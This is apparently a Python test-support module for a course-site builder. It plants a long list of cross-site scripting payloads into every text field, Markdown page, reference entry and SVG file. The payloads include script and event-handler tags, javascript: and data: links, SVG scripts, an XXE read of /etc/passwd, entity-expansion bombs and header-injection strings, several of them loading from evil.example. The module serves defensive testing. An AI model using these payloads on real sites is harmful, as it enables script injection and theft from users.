"""What would run in a browser if anything let it through: the one list, and how it is planted.

`ATTACKS` are things that somebody might type, each at one place; `spoil` puts one text into every
field there is.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path
from typing import Any, ClassVar

import yaml

ATTACK = '<script>alert(1)</script><img src=x onerror=alert(1)>"\' onload=alert(1) x="'
# Fields that hold words for people; all others hold ids, numbers or one of a few words.
PROSE = {
    "answer", "ask", "audience", "by", "consequence", "contact", "content_note", "corrections",
    "deadline", "debrief", "definition", "description", "false", "feedback", "hint", "how", "label",
    "law", "licence", "name", "note", "numbers", "people", "prompt", "say", "seen", "summary",
    "tell", "term", "text", "title", "true", "version", "when", "where_found", "who",
}  # fmt: skip
UNSPOILT = {"true", "false", "null"}


class AsTyped(yaml.SafeDumper):
    """Writes ``true`` and ``2026`` without quotes, as they were read: all is text here."""

    yaml_implicit_resolvers: ClassVar[dict[str, Any]] = {}


def spoil(folder: Path) -> None:
    """Add the attack to every text of a course's YAML, Markdown and JSON."""
    for part in ("course", "modules", "quizzes"):
        for file in sorted((folder / part).rglob("*.yml")):
            data = yaml.load(file.read_text(encoding="utf-8"), yaml.BaseLoader)
            text = yaml.dump(_spoilt(data), Dumper=AsTyped, allow_unicode=True)
            file.write_text(text, encoding="utf-8")
        for file in sorted((folder / part).rglob("*.md")):
            lines = file.read_text(encoding="utf-8").split("\n")
            file.write_text("\n".join(map(_line, lines)) + f"\n\n{ATTACK}\n", encoding="utf-8")
    file = folder / "course/references.json"
    sources = json.loads(file.read_text(encoding="utf-8"))
    for source in sources:
        source["title"] += ATTACK
    file.write_text(json.dumps(sources), encoding="utf-8")


def _line(line: str) -> str:
    """Spoil headings, the titles of blocks and the items of lists, which stand in places apart."""
    if line.startswith("#"):
        words, brace, anchor = line.partition(" {")
        return words + ATTACK + brace + anchor
    return line + ATTACK if line.startswith(("- ", "/// example")) else line


def _spoilt(value: Any, key: str = "") -> Any:
    if isinstance(value, dict):
        return {name: _spoilt(part, name) for name, part in value.items()}
    if isinstance(value, list):
        return [_spoilt(part) if isinstance(part, (dict, list)) else part for part in value]
    # The answer of a number is read as one, so that no text can be in it.
    prose = key in PROSE and value not in UNSPOILT and not value.replace(".", "", 1).isdigit()
    return value + ATTACK if prose else value


class Reader(HTMLParser):
    """Reads a page as a browser does; ``live`` holds what of the attack would run."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.live: list[str] = []
        self.words = ""
        self._script = False
        self.feed(str(html))
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        # Data for search engines stands in a script element, and no browser runs it.
        self._script = tag == "script" and given.get("type") != "application/ld+json"
        if {"onerror", "onload"} & given.keys() or (tag == "img" and given.get("src") == "x"):
            self.live.append(self.get_starttag_text() or tag)

    def handle_data(self, data: str) -> None:
        if self._script and "alert(1)" in data:
            self.live.append(data)
        self.words += data

    def handle_endtag(self, tag: str) -> None:
        self._script = False


@dataclass(frozen=True)
class Attack:
    """One thing that somebody may type; ``§`` stands for a number of its own.

    ``place`` is ``page`` (a paragraph), ``heading``, ``svg`` or ``picture`` (what such a file
    holds), or the path of a YAML or JSON file and of the field in it.
    """

    number: int
    place: str
    typed: str
    # What a learner sees, where Markdown makes something else of it; nothing, where none sees it.
    seen: str | None = None

    @property
    def text(self) -> str:
        """What is typed, with its number."""
        return self.typed.replace("§", str(self.number))

    @property
    def words(self) -> str:
        """What a learner sees of it, if it is not refused."""
        return " ".join((self.typed if self.seen is None else self.seen).split()).replace(
            "§", str(self.number)
        )


SVG_START = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
QUIZ = "quizzes/first-steps.yml questions"
STORY = "modules/first-steps/scenario.yml"
_TYPED: list[tuple[str, ...]] = [
    # Raw HTML, in many spellings.
    ("page", "<script>alert(§)</script>"),
    ("page", "<ScRiPt src=//evil.example/§.js></ScRiPt >"),
    ("page", "<script\ntype=module>alert(§)</script >"),
    ("page", "<img src=x onerror=alert(§)>"),
    ("page", "<img src=//evil.example/§.png>"),
    ("page", "<svg/onload=alert(§)>"),
    ("page", "<svg><script>alert(§)</script></svg>"),
    ("page", "<svg><animate onbegin=alert(§) attributeName=x dur=1s></svg>"),
    ("page", "<math><mtext><img src onerror=alert(§)></mtext></math>"),
    ("page", "<details open ontoggle=alert(§)>"),
    ("page", "<input autofocus onfocus=alert(§)>"),
    ("page", "<body onpageshow=alert(§)>"),
    ("page", "<video><source onerror=alert(§)></video>"),
    ("page", "<iframe src=javascript:parent.alert(§)></iframe>"),
    ("page", '<iframe srcdoc="<script>parent.alert(§)</script>"></iframe>'),
    ("page", "<iframe src=https://evil.example/§></iframe>"),
    ("page", "<object data=data:text/html,<script>alert(§)</script>></object>"),
    ("page", "<embed src=//evil.example/§.svg>"),
    ("page", "<meta http-equiv=refresh content=0;url=https://evil.example/§>"),
    ("page", "<base href=https://evil.example/§/>"),
    ("page", "<link rel=stylesheet href=https://evil.example/§.css>"),
    ("page", "<style>@import url(https://evil.example/§.css);body{display:none}</style>"),
    ("page", "<p style=background:url(https://evil.example/§.png)>x</p>"),
    ("page", "<form action=https://evil.example/§><button formaction=javascript:alert(§)>"),
    ("page", "<a href=javascript:alert(§)>x</a>"),
    ("page", "<a href=https://evil.example/§ ping=https://evil.example/§>x</a>"),
    ("page", "<noscript><p title=\"</noscript><img src=x onerror=alert(§)>\">"),
    ("page", "<template><script>alert(§)</script></template>"),
    ("page", "<!--[if gte IE 4]><script>alert(§)</script><![endif]-->"),
    ("page", "<!-- --!><script>alert(§)</script>-->"),
    ("page", "<![CDATA[<script>alert(§)</script>]]>"),
    ("page", "<?php echo alert(§) ?>"),
    ("page", "</main></body><script>alert(§)</script>"),
    ("page", "&lt;script&gt;alert(§)&lt;/script&gt;", "<script>alert(§)</script>"),
    ("page", "&#60;script&#62;alert(§)&#60;/script&#62;", "<script>alert(§)</script>"),
    ("page", "`<script>alert(§)</script>`", "<script>alert(§)</script>"),
    ("page", "```html\n<script>alert(§)</script>\n```", "<script>alert(§)</script>"),
    ("page", "<tr-choice data-correct=alert(§)><template></tr-choice>"),
    # What fills our own templates and those of the theme.
    ("page", "{{ config }} {{ 7 * § }} ${7 * §} <%= 7 * § %>"),
    ("page", "{% for x in range(9) %}§{% endfor %} {# § #}"),
    ("page", "<!--tr:0--> alert(§)"),
    ("page", "\\x02wzxhzdk:0\\x03 \x02wzxhzdk:0\x03 alert(§)", "alert(§)"),
    # Links.
    ("page", "[x](javascript:alert(§))"),
    ("page", "[x](java\tscript:alert(§))"),
    ("page", "[x](JAVASCRIPT:alert(§))"),
    ("page", "[x](&#106;avascript:alert(§))"),
    ("page", "[x](javascript&colon;alert(§))"),
    ("page", "[x](&Tab;javascript:alert(§))"),
    ("page", "[x](\x01javascript:alert(§))"),
    ("page", "[x]( javascript:alert(§) )"),
    ("page", "[x](<javascript:alert(§)>)"),
    ("page", "[x](javascript%3Aalert(§))"),
    ("page", "[x](feed:javascript:alert(§))"),
    ("page", "[x](vbscript:alert(§))"),
    ("page", "[x](data:text/html,<script>alert(§)</script>)"),
    ("page", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCjCpyk8L3NjcmlwdD4=#§)"),
    ("page", "[x](blob:https://evil.example/§)"),
    ("page", "[x](filesystem:https://evil.example/§)"),
    ("page", "[x][r§]\n\n[r§]: javascript:alert(§)"),
    ("page", "[r2§]\n\n[r2§]: <data:text/html,alert(§)> \"onclick=alert(§)\""),
    ("page", "<javascript:alert(§)>"),
    ("page", "<data:text/html,alert(§)>"),
    ("page", '[x](https://a.example/"onclick="alert(§))', 'https://a.example/"onclick="alert(§'),
    ("page", '[x](https://a.example "t\\" onclick=alert(§) \\"")', "onclick=alert(§)"),
    ("page", "[<script>alert(§)</script>](https://a.example)"),
    ("page", "[x](term:\"onclick=alert(§))"),
    ("page", "[@x\"onclick=alert(§)]"),
    ("page", "[^§]\n\n[^§]: <img src=x onerror=alert(§)>"),
    # Pictures.
    ("page", "![x](javascript:alert(§))"),
    ("page", "![x](&#106;avascript:alert(§))"),
    ("page", "![x](data:image/svg+xml,<svg/onload=alert(§)>)"),
    ("page", "![x](//evil.example/§.png)"),
    ("page", "![x](https://evil.example/§.png)"),
    ("page", "![x](\\\\evil.example\\§.png)"),
    ("page", '![x" onerror="alert(§)](images/none-§.png)'),
    # Attribute lists.
    ("page", "*word*{onmouseover=alert(§) style=color:red}"),
    ("page", "*word*{: ONCLICK='alert(§)'}"),
    ("page", "word {: onclick=alert(§) }"),
    ("page", "[x](index.md){target=_blank formaction=javascript:alert(§)}"),
    ("page", "[x](index.md){href=javascript:alert(§)}"),
    ("page", "[x](index.md){ping=https://evil.example/§}"),
    ("page", "![x](images/dot.gif){src=https://evil.example/§.png}"),
    ("page", "![x](images/dot.gif){srcset=https://evil.example/§.png onerror=alert(§)}"),
    ("page", "*word*{class='x\"onclick=alert(§)'}", 'x"onclick=alert(§)'),
    ("page", "*word*{id=__config title=alert(§)}"),
    ("page", "``` {onclick=alert(§)}\ncode\n```"),
    ("page", "~~~ { .py onclick=alert(§) x=} }\ncode\n~~~"),
    ("page", "``` .py {onclick=alert(§)}\ncode\n```"),
    ("page", "| a | b |\n| - | -: |\n| <img src=x onerror=alert(§)> | x {onclick=alert(§)} |"),
    ("page", "/// example | <img src=x onerror=alert(§)>\nx\n///"),
    ("page", "/// reflect | a§\n    answer: <img src=x onerror=alert(§)>\n\nx\n///"),
    ("heading", "<img src=x onerror=alert(§)>"),
    ("heading", "Words {onclick=alert(§)}"),
    ("heading", 'Words {#a"onclick=alert(§)}'),
    ("heading", "</script><script>alert(§)</script>"),
    # Fields of YAML files and of the list of sources.
    ("course/course.yml title", "</title><script>alert(§)</script>"),
    ("course/course.yml description", '"><script>alert(§)</script>'),
    ("course/course.yml licence", "<img src=x onerror=alert(§)>"),
    ("course/course.yml version", '1"onload=alert(§) x="'),
    ("course/course.yml areas/0/title", "<script>alert(§)</script>"),
    ("course/host.yml organisation/name", "<img src=x onerror=alert(§)>\r\nX-Evil: §"),
    ("course/host.yml organisation/contact", "javascript:alert(§)"),
    ("course/host.yml safeguarding_lead/how", "[call](javascript:alert(§))"),
    ("course/host.yml local_duties/tell", "<iframe src=//evil.example/§>"),
    ("course/host.yml exit/label", "</a><script>alert(§)</script>", ""),
    ("course/host.yml corrections", 'data:text/html,<script>alert(§)</script>'),
    ("course/host.yml organisation/logo", "https://evil.example/§.svg"),
    ("course/support.yml countries/0/name", '"><img src=x onerror=alert(§)>'),
    ("course/support.yml countries/0/contacts/0/how", "javascript:alert(§)"),
    ("course/support.yml countries/0/contacts/1/name", "<svg/onload=alert(§)>"),
    ("course/glossary.yml terms/0/term", "<b onclick=alert(§)>x</b>"),
    ("course/glossary.yml terms/0/definition", "[x](javascript:alert(§))"),
    ("course/cast.yml people/0/who", "<script>alert(§)</script>", ""),
    ("course/pathways/everyone.yml title", "Everyone\r\nSet-Cookie: a=§"),
    ("course/pathways/everyone.yml audience", "<style>*{background:url(//evil.example/§)}"),
    ("modules/first-steps/module.yml title", "</script><script>alert(§)</script>"),
    ("modules/first-steps/module.yml description", '" http-equiv=refresh content="0;url=//e/§'),
    ("modules/first-steps/module.yml objectives/0/text", "Describe <img src=x onerror=alert(§)>"),
    ("modules/first-steps/module.yml key_points/0/text", "<svg><style>@import '//e/§'</style>"),
    (f"{QUIZ}/0/prompt", "<script>alert(§)</script>"),
    (f"{QUIZ}/0/feedback/true", "<img src=x onerror=alert(§)>"),
    (f"{QUIZ}/1/options/0/text", "</label><script>alert(§)</script>"),
    (f"{QUIZ}/1/options/0/feedback", '</template><img src=x onerror=alert(§)>'),
    (f"{QUIZ}/1/options/1/text", "'\"><img src=x onerror=alert(§)>"),
    (f"{QUIZ}/1/hints/0", "<details open ontoggle=alert(§)>"),
    (f"{QUIZ}/1/hints/1", "[x](javascript:alert(§))"),
    (f"{QUIZ}/2/options/0/text", "[x](JaVaScRiPt:alert(§))"),
    (f"{STORY} title", "<script>alert(§)</script>"),
    (f"{STORY} people", '"><img src=x onerror=alert(§)>'),
    (f"{STORY} steps/door/text", "<iframe srcdoc='<script>parent.alert(§)</script>'>"),
    (f"{STORY} steps/door/responses/0/text", "<img src=x onerror=alert(§)>"),
    (f"{STORY} steps/door/responses/0/consequence", "</template><script>alert(§)</script>"),
    (f"{STORY} steps/door/responses/1/feedback", "<svg/onload=alert(§)>"),
    (f"{STORY} debrief", "<a href=javascript:alert(§)>x</a>"),
    ("course/references.json 0/title", "<script>alert(§)</script>"),
    ("course/references.json 0/author/0/literal", "<img src=x onerror=alert(§)>"),
    ("course/references.json 1/DOI", '10.1/x"onclick="alert(§)'),
    ("course/references.json 2/URL", "javascript:alert(§)"),
    ("course/references.json 3/URL", 'https://a.example/"><script>alert(§)</script>'),
    ("course/references.json 3/container-title", "<i onclick=alert(§)>x</i>"),
    # Drawings, shown in a page and opened by themselves; the last ones are no drawings at all.
    ("svg", SVG_START + "><script>alert(§)</script></svg>"),
    ("svg", SVG_START + "><script xlink:href='//evil.example/§.js'/></svg>"),
    ("svg", SVG_START + " onload='alert(§)'><rect width='9' height='9'/></svg>"),
    ("svg", SVG_START + "><foreignObject><body xmlns='http://www.w3.org/1999/xhtml'>"
            "<img src='x' onerror='alert(§)'/></body></foreignObject></svg>"),
    ("svg", SVG_START + "><animate onbegin='alert(§)' attributeName='x' dur='1s'/></svg>"),
    ("svg", SVG_START + "><a href='#'><set attributeName='href' to='javascript:alert(§)'/>"
            "<text y='9'>x</text></a></svg>"),
    ("svg", SVG_START + "><a xlink:href='javascript:alert(§)'><text y='9'>x</text></a></svg>"),
    ("svg", SVG_START + "><use href='https://evil.example/§.svg#x'/></svg>"),
    ("svg", SVG_START + "><use href='data:image/svg+xml,&lt;svg id=\"x\" onload=\"alert(§)\"/>"
            "#x'/></svg>"),
    ("svg", SVG_START + "><image href='https://evil.example/§.png' width='9' height='9'/></svg>"),
    ("svg", SVG_START + "><image href='data:image/svg+xml,&lt;svg onload=alert(§)>'/></svg>"),
    ("svg", SVG_START + "><style>@import url(https://evil.example/§.css);</style></svg>"),
    ("svg", SVG_START + "><style>rect{fill:u\\72l(https://evil.example/§)}</style><rect/></svg>"),
    ("svg", SVG_START + "><rect style='fill:url(https://evil.example/§#a)' width='9'/></svg>"),
    ("svg", SVG_START + "><rect filter='url(//evil.example/§#a)' width='9' height='9'/></svg>"),
    ("svg", SVG_START + "><filter id='f'><feImage href='//evil.example/§.png'/></filter></svg>"),
    ("svg", SVG_START + "><h:script xmlns:h='http://www.w3.org/1999/xhtml'>alert(§)</h:script>"
            "</svg>"),
    ("svg", "<?xml-stylesheet href='https://evil.example/§.css'?>" + SVG_START + "/>"),
    ("svg", "<!DOCTYPE svg [<!ENTITY a '<script>alert(§)</script>'>]>" + SVG_START + ">&a;</svg>"),
    ("svg", "<!DOCTYPE svg [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>" + SVG_START + ">§&a;</svg>"),
    ("svg", "<!DOCTYPE svg [<!ENTITY a '§'><!ENTITY b '&a;&a;&a;'>]>" + SVG_START + ">&b;</svg>"),
    ("svg", SVG_START + ">" + "".join(f"<g id='u{n}'>" + f"<use href='#u{n - 1}'/>" * 9 + "</g>"
            for n in range(1, 12)) + "§</svg>"),
    ("svg", "<html><script>alert(§)</script></html>"),
    ("svg", "<script xmlns='http://www.w3.org/2000/svg'>alert(§)</script>"),
    ("picture", "<html><script>alert(§)</script></html>"),
    ("picture", "GIF not quite <script>alert(§)</script>"),
    # What is refused where it is read, so that it never comes near a page.
    ("refused course/host.yml exit/url", "javascript:alert(§)"),
    ("refused course/host.yml exit/url", "https://a.example/\r\nSet-Cookie: a=§"),
    ("refused course/host.yml organisation/url", "data:text/html,<script>alert(§)</script>"),
    ("refused course/host.yml organisation/id", 'x"onclick="alert(§)'),
    ("refused course/host.yml exit/show", "<script>alert(§)</script>"),
    ("refused course/course.yml id", "../../§"),
    ("refused course/course.yml id", 'a"onload="alert(§)'),
    ("refused course/course.yml areas/0/id", "<script>alert(§)</script>"),
    ("refused course/glossary.yml terms/0/id", 'x"onclick="alert(§)'),
    ("refused modules/first-steps/module.yml objectives/0/id", "x onclick=alert(§)"),
    (f"refused {QUIZ}/0/id", '"><script>alert(§)</script>'),
    (f"refused {QUIZ}/1/options/0/id", "a'onclick='alert(§)"),
    ("refused file", "course/<img src=x onerror=alert(§)>.md"),
    ("refused file", "course/a\r\nSet-Cookie: a=§.md"),
    ("refused file", "modules/first-steps/java§script:.md"),
]  # fmt: skip
ATTACKS = tuple(Attack(number, *given) for number, given in enumerate(_TYPED, 4001))
PAGE = "course/attacks.md"


def plant(folder: Path) -> None:
    """Put every attack that can be read into a copy of the starter course, and spoil the rest."""
    (folder / STORY).write_text(_STORY, encoding="utf-8")
    (folder / "course/cast.yml").write_text(_CAST, encoding="utf-8")
    (folder / "course/images").mkdir()
    (folder / "course/images/dot.gif").write_bytes(DOT)
    spoil(folder)
    host = folder / "course/host.yml"
    text = host.read_text(encoding="utf-8")
    host.write_text(text.replace("id: your-organisation", "id: attackers"), encoding="utf-8")
    file = folder / "course/references.json"
    sources = json.loads(file.read_text(encoding="utf-8"))
    sources += [{**sources[0], "id": f"source-{n}"} for n in range(3)]
    file.write_text(json.dumps(sources), encoding="utf-8")
    cited = "[@phac2018] [@source-0] [@source-1] [@source-2]"
    page = [f"Every attack in a text {cited}."]
    for attack in ATTACKS:
        if attack.place in ("page", "heading"):
            page.append(("## " if attack.place == "heading" else "") + attack.text)
        elif attack.place in ("svg", "picture"):
            name = picture(attack)
            (folder / "course" / name).write_text(attack.text, encoding="utf-8")
            page.append(f"![Picture {attack.number}]({name})")
        elif not attack.place.startswith("refused"):
            put(folder, attack)
    (folder / PAGE).write_text("\n\n".join(page) + "\n", encoding="utf-8")


def picture(attack: Attack) -> str:
    """Name the picture that an attack is put into."""
    return f"images/attack-{attack.number}.{'svg' if attack.place == 'svg' else 'png'}"


def put(folder: Path, attack: Attack) -> str:
    """Write one attack into its field of a YAML or JSON file; tell which file."""
    name, steps = attack.place.removeprefix("refused ").split()
    if name == "file":
        raise ValueError(attack.place)
    file = folder / name
    text = file.read_text(encoding="utf-8")
    data = json.loads(text) if name.endswith(".json") else yaml.load(text, yaml.BaseLoader)
    *way, last = [int(step) if step.isdigit() else step for step in steps.split("/")]
    inner = data
    for step in way:
        if step == "hints":
            inner.setdefault("hints", ["", ""])
        inner = inner.setdefault(step, {}) if isinstance(inner, dict) else inner[step]
    inner[last] = attack.text
    written = (
        "[" + ",\n".join(map(json.dumps, data)) + "]"
        if name.endswith(".json")
        else yaml.dump(data, Dumper=AsTyped, allow_unicode=True, width=100_000)
    )
    file.write_text(written, encoding="utf-8", newline="\n")
    return name


# A picture of one dot.
DOT = bytes.fromhex("47494638396101000100800000000000ffffff2c00000000010001000002024401003b")
_CAST = "schema: 1\npeople:\n  - {id: femi, name: Femi, who: a father, modules: [first-steps]}\n"
_STORY = """\
schema: 1
id: at-the-desk
rev: 1
title: At the desk
people: Femi, a father. Made up.
content_note: A father is asked questions. Nobody is hurt.
objectives: [choose-greeting]
start: door
steps:
  door:
    text: Femi comes in late.
    responses:
      - {id: tea, text: Come in., fit: best, consequence: He nods., feedback: Good., goto: seated}
      - {id: why, text: Ask why, fit: not-here, consequence: He goes., feedback: No., goto: seated}
  seated: {ending: true, text: He sits down.}
debrief: Think about the door.
"""
